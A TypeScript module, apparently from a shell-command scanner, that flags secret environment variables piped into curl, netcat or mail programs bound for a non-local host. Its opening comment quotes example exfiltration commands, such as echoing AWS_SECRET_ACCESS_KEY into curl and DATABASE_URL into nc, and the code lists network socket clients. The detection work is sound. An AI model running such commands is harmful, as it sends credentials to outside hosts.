// A secret variable printed into a pipe that ends at another host:
// `echo "$AWS_SECRET_ACCESS_KEY" | curl -d @- https://…`,
// `printf %s "$DATABASE_URL" | nc host 9000`. Printing the variable is quiet
// when its output is consumed (`echo $GH_TOKEN | gh auth login --with-token`);
// the consumer here is a network client that sends what it reads on stdin.
import { positionals } from '../../command/args';
import { isLocalHost, parseUrl } from '../common/urls';
import type { Finding, SimpleCommand } from '../../types';
import { carriesPassword, connectionRefs, isConnectionVar, isEnvDump } from './printed';
import { isSecretName, secretRefsOf, SEND_ALT, SENDERS } from './common';
import { senderInputs, urlWords } from './network';
import { finding } from '../common/finding';

/** Mail programs send what they read on stdin as the message body. */
const MAILERS = new Set(['mail', 'mailx', 's-nail', 'sendmail', 'msmtp', 'mutt']);
/** Raw socket clients: their first operand is the host. */
const SOCKET_CLIENTS = new Set(['nc', 'ncat', 'netcat', 'telnet']);

/** The secret variables a printing command writes out, by name. */
function printedSecrets(name: string, cmd: SimpleCommand): string[] {
  if (name === 'printenv') {
    // `printenv GITHUB_TOKEN | curl …` with only secret names is an environment dump, judged at the sender.
    if (isEnvDump(cmd.argv)) return [];
    return positionals(cmd.argv).filter((n) => isSecretName(n) || (isConnectionVar(n) && carriesPassword(cmd.env[n])));
  }
  const refs = secretRefsOf(cmd);
  return refs.length ? refs : connectionRefs(cmd).filter((n) => carriesPassword(cmd.env[n]));
}

/** Where the network client at the end of the pipe connects, for a human. */
function hostOf(next: readonly string[]): string {
  if (MAILERS.has(next[0])) return positionals(next, ['-s', '-c', '-b', '-a', '-r', '-f']).join(', ') || 'a mailbox';
  if (SOCKET_CLIENTS.has(next[0]))
    return positionals(next, ['-p', '-s', '-w', '-q', '-i', '-e', '-c'])[0] ?? 'another host';
  for (const url of urlWords(next)) {
    const host = parseUrl(url)?.host;
    if (host) return host;
  }
  return 'another host';
}

/** `echo "$TOKEN" | curl -d @- URL`: the variable's value becomes the request body. */
export function pipedSecretFinding(name: string, cmd: SimpleCommand): Finding | undefined {
  const next = cmd.stdoutTo;
  if (!next || !(MAILERS.has(next[0]) || (SENDERS.has(next[0]) && senderInputs(next[0], next).stdin))) return undefined;
  const names = printedSecrets(name, cmd);
  if (names.length === 0) return undefined;
  // A server on this machine (a dev server's setup endpoint) is where the value already is.
  const host = hostOf(next);
  if (isLocalHost(host)) return undefined;
  return finding(
    'secrets.send-to-network',
    80,
    `${name} pipes $${names[0]} into ${next[0]}, which sends it to ${host}`,
    names[0],
    SEND_ALT,
  );
}
